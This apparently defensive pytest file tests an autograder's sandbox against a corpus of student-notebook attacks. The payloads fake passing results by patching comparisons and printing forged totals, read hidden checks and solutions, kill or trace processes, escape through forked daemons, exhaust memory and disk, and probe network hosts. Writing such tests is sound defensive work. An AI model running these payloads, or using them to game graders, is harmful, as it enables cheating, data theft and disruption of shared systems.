"""The attack corpus: what a determined student tries, graded in ONE batch beside honest classmates.

Every attack is the untouched student copy of 01 (the null submission: 0 points) plus one cell of
attack. The whole corpus, a full solution ("alice") and the partly wrong example ("bob") are graded by
one `autograder grade-batch` command. For each attack: zero points gained over the null submission,
the grader survived and wrote a report, the classmates got their true scores, and no file outside the
sandbox changed (the repository's grader package and worksheet data, site-packages, a canary file
whose path every attack knows, the batch's own folder).

The secrets and forgery attacks run again where no sandbox can be made: grading refuses.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import time
from dataclasses import dataclass

import pytest
from helpers import REPO, code_cell, load_nb, solution_path, student_path, write_nb

from autograder.engine import grade_notebook
from autograder.sandbox import namespaces

ASSIGNMENT = "01_data_splits"
AUTOGRADER = os.path.join(os.path.dirname(sys.executable), "autograder")
EXAMPLE = os.path.join(REPO, "examples", f"{ASSIGNMENT}-example.ipynb")


@dataclass(frozen=True)
class Attack:
    name: str
    klass: str  # forgery | secrets | grader | escape | protocol | reports | resources | network
    source: str


def _fn(body: str) -> str:
    """An attack that runs when a check calls the student's split_data."""
    return "def split_data(x, y, ratios=(0.8, 0.1, 0.1), seed=0):\n" + "".join(
        f"    {line}\n" for line in body.strip("\n").splitlines())


_FORGE_FRAME = '''
import gc, json, os
from autograder.sandbox.worker import Worker
w = next(o for o in gc.get_objects() if isinstance(o, Worker))
def frame(obj_bytes):
    os.write(w.wfd, len(obj_bytes).to_bytes(8, "big") + obj_bytes)
'''

ATTACKS = [
    # -- forgery: make the comparison, the test or the report say "passed" ------------------------
    Attack("patch_comparisons", "forgery", "import numpy, torch\ntorch.allclose = lambda *a, **k: True\n"
           "torch.equal = lambda *a, **k: True\nnumpy.allclose = lambda *a, **k: True\n"
           "numpy.testing.assert_allclose = lambda *a, **k: None\n"),
    Attack("eq_always_true", "forgery", "import torch\nclass Liar(torch.Tensor):\n"
           "    def __eq__(self, other): return True\n    __ne__ = lambda self, other: False\n"
           + _fn("return {k: (Liar(torch.rand_like(x)), Liar(y.flip(0))) for k in ('train', 'val', 'test')}")),
    Attack("patch_builtins", "forgery", "import builtins\nbuiltins.isinstance = lambda *a: True\n"
           "builtins.len = lambda *a: 10**6\n"),
    Attack("sys_exit", "forgery", "import sys\nsys.exit(0)\n"),
    Attack("os_exit", "forgery", "import os\nos._exit(0)\n"),
    Attack("print_all_passed", "forgery", "print('All tests passed!\\nTOTAL 16 / 16\\n== all notebooks: 16 / 16')\n"),
    Attack("fake_result_files", "forgery", "import json, os\nfor d in ('.', os.environ.get('HOME', '.'), '/tmp'):\n"
           "    for f in ('results.json', 'report.json', 'scores.csv'):\n"
           "        try:\n            open(os.path.join(d, f), 'w').write(json.dumps({'score': 16}))\n"
           "        except OSError:\n            pass\n"),
    Attack("ask_exit", "forgery", "get_ipython().ask_exit()\n"),
    Attack("systemexit_in_call", "forgery", _fn("raise SystemExit(0)")),
    Attack("keyboard_interrupt_in_call", "forgery", _fn("raise KeyboardInterrupt")),
    Attack("rebind_check", "forgery", "def check(*a, **k):\n    return 100.0\nimport autograder\nautograder.check = check\n"),
    # the fixture-trust class (tests/sandbox/test_fixture_trust.py has one per kind of check, on the suites
    # that use probes): every grader-owned probe and fixture method made to lie, torch's hooks faked
    Attack("lying_fixtures_and_probes", "forgery", "import importlib, pkgutil, autograder.fixtures as F\n"
           "for info in pkgutil.iter_modules(F.__path__):\n"
           "    mod = importlib.import_module('autograder.fixtures.' + info.name)\n"
           "    for name, obj in list(vars(mod).items()):\n"
           "        if callable(obj) and not isinstance(obj, type) and getattr(obj, '__module__', '') == mod.__name__:\n"
           "            setattr(mod, name, lambda *a, **k: {'ok': True, 'input_changed': False, 'hooks': 0})\n"),
    Attack("fake_hooks_and_copies", "forgery", "import copy, torch\n"
           "class Handle:\n    def remove(self): pass\n"
           "torch.nn.Module.register_forward_hook = lambda self, *a, **k: Handle()\n"
           "torch.Tensor.register_hook = lambda self, *a, **k: Handle()\n"
           "copy.deepcopy = lambda obj, memo=None: obj\n"),
    # -- secrets: the hidden checks, references, mistakes and solutions ----------------------------
    Attack("read_hidden_checks", "secrets", "import glob, os, autograder\npkg = os.path.dirname(autograder.__file__)\n"
           "found = [open(f).read() for f in glob.glob(pkg + '/suites/*/*.py')]\n"
           "assert not found, 'read %d suite files' % len(found)\n"),
    Attack("read_references", "secrets", "import glob, os, autograder\npkg = os.path.dirname(autograder.__file__)\n"
           "refs = glob.glob(pkg + '/suites/*/*/*.json') + glob.glob(pkg + '/suites/*/*.json')\n"
           "assert not refs, refs\n"),
    Attack("import_hidden_and_mistakes", "secrets", "import importlib\n"
           "for m in ('hidden', 'mistakes', 'checks'):\n"
           "    importlib.import_module('autograder.suites.s01_data_splits.' + m)\n"),
    Attack("exec_solution_notebook", "secrets", "import glob, json, os, autograder\n"
           "repo = os.path.dirname(os.path.dirname(autograder.__file__))\n"
           "for path in glob.glob(repo + '/solutions/01_data_splits/*.ipynb'):\n"
           "    for c in json.load(open(path))['cells']:\n"
           "        if c['cell_type'] == 'code' and c['metadata'].get('nbgrader', {}).get('solution'):\n"
           "            exec(''.join(c['source']), globals())\n"),
    Attack("reference_values_as_answers", "secrets", "import glob, json, os, autograder\n"
           "pkg = os.path.dirname(autograder.__file__)\n"
           "refs = {}\nfor f in glob.glob(pkg + '/suites/s01_data_splits/references/*.json'):\n"
           "    refs.update(json.load(open(f)).get('checks', {}))\n"
           "assert not refs, 'read %d checks of reference values' % len(refs)\n"),
    Attack("search_filesystem_for_solutions", "secrets", "import os, time\nt = time.time()\nhits = []\n"
           "for root, dirs, files in os.walk('/'):\n"
           "    if time.time() - t > 8 or root.startswith(('/proc', '/sys')):\n        dirs[:] = []\n        continue\n"
           "    hits += [os.path.join(root, f) for f in files if f.endswith(('.ipynb', 'hidden.py', 'mistakes.py'))]\n"
           "src = [h for h in hits if 'BEGIN SOLUTION' in open(h, errors='ignore').read()]\n"
           "assert not src, src[:3]\n"),
    Attack("read_git_history", "secrets", "import os, autograder\n"
           "git = os.path.join(os.path.dirname(os.path.dirname(autograder.__file__)), '.git')\n"
           "assert not os.path.exists(git), os.listdir(git)\n"),
    Attack("grader_environment", "secrets", "import os\nleaks = []\n"
           "for pid in os.listdir('/proc'):\n"
           "    try:\n        leaks.append(open('/proc/%s/environ' % pid, 'rb').read())\n    except OSError:\n        pass\n"
           "assert not any(b'GRADER' in e or b'VIRTUAL_ENV' in e for e in leaks)\n"),
    # -- grader: see, signal or read the grader's process ------------------------------------------
    Attack("kill_parent", "grader", "import os, signal\nos.kill(os.getppid() or 1, signal.SIGKILL)\n"),
    Attack("kill_everything", "grader", "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n"),
    Attack("read_grader_memory", "grader", "import os\nfor pid in os.listdir('/proc'):\n"
           "    if pid.isdigit() and int(pid) != os.getpid():\n"
           "        open('/proc/%s/mem' % pid, 'rb').read(1)\n"),
    Attack("ptrace_grader", "grader", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
           "for pid in range(2, 4096):\n    if libc.ptrace(16, pid, 0, 0) == 0:\n"
           "        raise SystemExit('attached to %d' % pid)\n"),
    # -- escape: outlive the notebook, reach classmates or the grader's files ----------------------
    Attack("setsid_daemon_writes_later", "escape", "import os, subprocess, sys\n"
           "subprocess.Popen([sys.executable, '-c', 'import os, time\\nos.setsid()\\ntime.sleep(4)\\n"
           "open(%r, \"w\").write(\"owned\")' % CANARY], start_new_session=True)\n"),
    Attack("double_fork_orphan_kills_classmates", "escape", "import os, signal, time\n"
           "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(2)\n"
           "        for pid in range(2, 65536):\n            try:\n                os.kill(pid, signal.SIGKILL)\n"
           "            except OSError:\n                pass\n        os._exit(0)\n    os._exit(0)\n"),
    Attack("overwrite_grader_module", "escape", "import os, autograder\n"
           "open(os.path.join(os.path.dirname(autograder.__file__), 'compare.py'), 'a').write('\\nowned = 1\\n')\n"),
    Attack("overwrite_site_packages", "escape", "import os, torch\n"
           "open(os.path.join(os.path.dirname(torch.__file__), '__init__.py'), 'a').write('\\n')\n"),
    Attack("write_canary", "escape", "open(CANARY, 'w').write('owned')\n"),
    Attack("classmates_notebooks", "escape", "import glob\nfound = glob.glob(BATCH + '/*.ipynb')\n"
           "assert not found, found\n"),
    # -- protocol: forged frames on the reply channel ----------------------------------------------
    Attack("forged_deep_reply", "protocol", _FORGE_FRAME + "frame(b'{\"seq\": 2, \"ok\": true, \"value\": '"
           " + b'[' * 50000 + b']' * 50000 + b'}')\n" + _fn("return None")),
    Attack("forged_error_not_dict", "protocol", _FORGE_FRAME + "frame(b'{\"seq\": 2, \"ok\": false, \"error\": 5}')\n"),
    Attack("forged_future_replies", "protocol", _FORGE_FRAME
           + "for s in range(1, 400):\n    frame(json.dumps({'seq': s, 'ok': True, 'value': 16.0}).encode())\n"),
    Attack("forged_huge_length", "protocol", _FORGE_FRAME + "os.write(w.wfd, (2**62).to_bytes(8, 'big'))\n"),
    Attack("forged_garbage", "protocol", _FORGE_FRAME + "frame(b'\\xff\\xfe not json')\n"),
    # -- reports: strings that break renderers -------------------------------------------------------
    Attack("huge_exception_type", "reports", _fn("raise type('E' * 4_000_000, (Exception,), {})()")),
    Attack("huge_message_and_traceback", "reports", _fn("raise ValueError('x' * 50_000_000)")),
    Attack("lone_surrogate", "reports", _fn("raise ValueError('\\ud800 \\udfff')")),
    Attack("ansi_and_control_chars", "reports", _fn(
        "raise ValueError('\\x1b[2J\\x1b[H   TOTAL   16 / 16\\x00\\x07\\x1b]0;pwned\\x07\\r== all notebooks: 16 / 16')")),
    Attack("ansi_in_cell_error", "reports", "raise RuntimeError('\\x1b[32m[PASS]\\x1b[0m ' * 1000 + '\\x00')\n"),
    # -- resources --------------------------------------------------------------------------------
    Attack("fill_tmp", "resources", "import os\nwith open('/tmp/fill', 'wb') as fh:\n"
           "    for _ in range(2048):\n        fh.write(b'\\0' * (1 << 20))\n"),
    Attack("fill_dev_shm", "resources", "with open('/dev/shm/fill', 'wb') as fh:\n"
           "    for _ in range(2048):\n        fh.write(b'\\0' * (1 << 20))\n"),
    Attack("huge_file", "resources", "with open('big', 'wb') as fh:\n    fh.seek(10 * 2**30)\n    fh.write(b'x')\n"),
    Attack("memory_bomb", "resources", "import torch\nx = torch.empty(8 * 2**30, dtype=torch.uint8).fill_(1)\n"),
    Attack("thread_bomb", "resources", "import threading, time\n"
           "for _ in range(5000):\n    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n"),
    Attack("endless_loop_ignoring_sigint", "resources", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
           "while True:\n    pass\n"),
    Attack("hang_in_call", "resources", _fn("import time\ntime.sleep(3600)")),
    Attack("stdout_flood", "resources", "import sys\nfor _ in range(200):\n    sys.stdout.write('x' * (1 << 20))\n"),
    # -- network ----------------------------------------------------------------------------------
    Attack("network_exfiltration", "network", "import socket\n"
           "for host, port in (('127.0.0.1', 22), ('8.8.8.8', 53), ('10.0.0.1', 80)):\n"
           "    try:\n        socket.create_connection((host, port), timeout=1).send(b'hi')\n"
           "        raise SystemExit('connected to %s' % host)\n    except OSError:\n        pass\n"),
]

SECRETS_AND_FORGERY = [a for a in ATTACKS if a.klass in ("secrets", "forgery")]


def attack_notebook(attack: Attack, path, canary: str, batch: str) -> str:
    nb = load_nb(student_path(ASSIGNMENT))
    source = attack.source.replace("CANARY", repr(canary)).replace("BATCH", repr(batch))
    cell = code_cell(source)
    cell["id"] = f"attack-{attack.name}".replace("_", "-")
    nb["cells"].append(cell)
    return write_nb(nb, path)


def digest(paths: list[str]) -> str:
    h = hashlib.sha256()
    for top in paths:
        for root, dirs, files in os.walk(top):
            dirs[:] = sorted(d for d in dirs if d != "__pycache__")
            for f in sorted(files):
                p = os.path.join(root, f)
                h.update(p.encode())
                with open(p, "rb") as fh:
                    h.update(fh.read())
    return h.hexdigest()


def test_corpus_is_large_and_named_uniquely():
    assert len(ATTACKS) >= 40
    assert len({a.name for a in ATTACKS}) == len(ATTACKS)


@pytest.fixture(scope="module")
def batch_result(tmp_path_factory):
    if namespaces.problem_here() is not None:
        pytest.fail(f"the namespace sandbox is expected on this machine: {namespaces.problem_here()}")
    root = tmp_path_factory.mktemp("attacks")
    batch = root / "submissions"
    batch.mkdir()
    canary = root / "canary.txt"
    canary.write_text("untouched")
    for attack in ATTACKS:
        attack_notebook(attack, batch / f"{attack.name}.ipynb", str(canary), str(batch))
    write_nb(load_nb(solution_path(ASSIGNMENT)), batch / "alice.ipynb")
    write_nb(load_nb(EXAMPLE), batch / "bob.ipynb")
    import torch

    # The files the attacks try to change outside their sandbox (the repository's grader modules and
    # site-packages) — named, not the whole tree, since other work may edit the repository meanwhile.
    watched = [os.path.join(REPO, "autograder", "compare.py"), os.path.join(REPO, "autograder", "__init__.py"),
               os.path.join(os.path.dirname(torch.__file__), "__init__.py")]
    before = [hashlib.sha256(open(p, "rb").read()).hexdigest() for p in watched]
    batch_before = digest([str(batch)])
    out = root / "scores.json"
    env = {k: v for k, v in os.environ.items() if k != "REGNORM_GRADING"}
    env.update(CI="true", GRADER_SECRET_TOKEN="s3cret")
    started = time.monotonic()
    proc = subprocess.run([AUTOGRADER, "grade-batch", str(batch), "--jobs", "2", "--output", str(out),
                           "--assignment", ASSIGNMENT, "--cell-timeout", "6", "--notebook-timeout", "40",
                           "--call-timeout", "4"], capture_output=True, text=True, timeout=900, env=env)
    took = time.monotonic() - started
    time.sleep(5)  # anything left behind (the setsid daemon sleeps 4 s) would act now
    after = [hashlib.sha256(open(p, "rb").read()).hexdigest() for p in watched]
    return {"proc": proc, "out": out, "canary": canary, "before": before, "after": after, "took": took,
            "batch_before": batch_before, "batch_after": digest([str(batch)])}


@pytest.mark.slow
def test_batch_survives_and_reports_every_notebook(batch_result):
    proc = batch_result["proc"]
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    rows = _rows(batch_result)
    assert len(rows) == len(ATTACKS) + 2, sorted(rows)
    assert all(not r["error"] for r in rows.values()), [(k, r["error"]) for k, r in rows.items() if r["error"]]


def _rows(batch_result) -> dict:
    with open(batch_result["out"], encoding="utf-8") as fh:
        return {r["student"]: r for r in json.load(fh)}


@pytest.mark.slow
def test_classmates_get_their_true_scores(batch_result):
    rows = _rows(batch_result)
    pinned = json.loads(open(os.path.join(REPO, "tests", "integration", "pinned_reports.json")).read())
    assert float(rows["alice"]["score"]) == float(rows["alice"]["max_score"]) > 0
    assert float(rows["bob"]["score"]) == pinned["examples/01_data_splits-example"]["score"] > 0


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_gains_nothing(batch_result, attack):
    row = _rows(batch_result)[attack.name]
    assert float(row["score"]) == 0, (attack.name, row)


@pytest.mark.slow
def test_no_file_outside_the_sandbox_changed(batch_result):
    assert batch_result["canary"].read_text() == "untouched"
    assert batch_result["before"] == batch_result["after"]
    assert batch_result["batch_before"] == batch_result["batch_after"]


@pytest.mark.parametrize("attack", SECRETS_AND_FORGERY, ids=[a.name for a in SECRETS_AND_FORGERY])
def test_without_any_sandbox_grading_refuses(attack, tmp_path, monkeypatch):
    monkeypatch.setattr(namespaces, "problem_here", lambda: "namespaces disabled for this test")
    monkeypatch.setattr("autograder.sandbox.process.unprivileged_user", lambda: None)
    path = attack_notebook(attack, tmp_path / f"{attack.name}.ipynb", str(tmp_path / "canary"), str(tmp_path))
    result = grade_notebook(path)
    assert result.score == 0 and result.checks == []
    assert "grading refused" in result.error


REPORT_ATTACKS = [a for a in ATTACKS if a.klass == "reports"]


def test_student_strings_cannot_break_or_spoof_a_report(tmp_path, grade):
    """Huge type names and messages, lone surrogates, ANSI escapes and control characters reach every
    renderer capped and sanitised: small reports, valid XML, no escape sequence, no forged score line."""
    import xml.etree.ElementTree as ET

    from autograder.reports.gradescope import render_gradescope
    from autograder.reports.json_report import render_json
    from autograder.reports.junit import render_junit
    from autograder.reports.terminal import render_terminal
    from autograder.results import GradingRun

    results = [grade(attack_notebook(a, tmp_path / f"{a.name}.ipynb", str(tmp_path / "c"), str(tmp_path)))
               for a in REPORT_ATTACKS]
    assert all(r.error is None and r.score == 0 for r in results)
    run = GradingRun(results)
    rendered = {"json": render_json(run), "gradescope": render_gradescope(run), "junit": render_junit(run),
                "table": render_terminal(run)}
    for fmt, text in rendered.items():
        assert len(text.encode("utf-8")) < 2_000_000, (fmt, len(text))
        assert "\x1b" not in text and "\x00" not in text and "\x07" not in text, fmt
        text.encode("utf-8")  # no lone surrogate survives
    ET.fromstring(rendered["junit"])  # valid XML
    # The only score lines of the table are the grader's own (one TOTAL per notebook, one overall line).
    lines = rendered["table"].splitlines()
    assert sum(line.strip().startswith("TOTAL") for line in lines) == len(results)
    assert sum(line.startswith("== all notebooks") for line in lines) <= 1
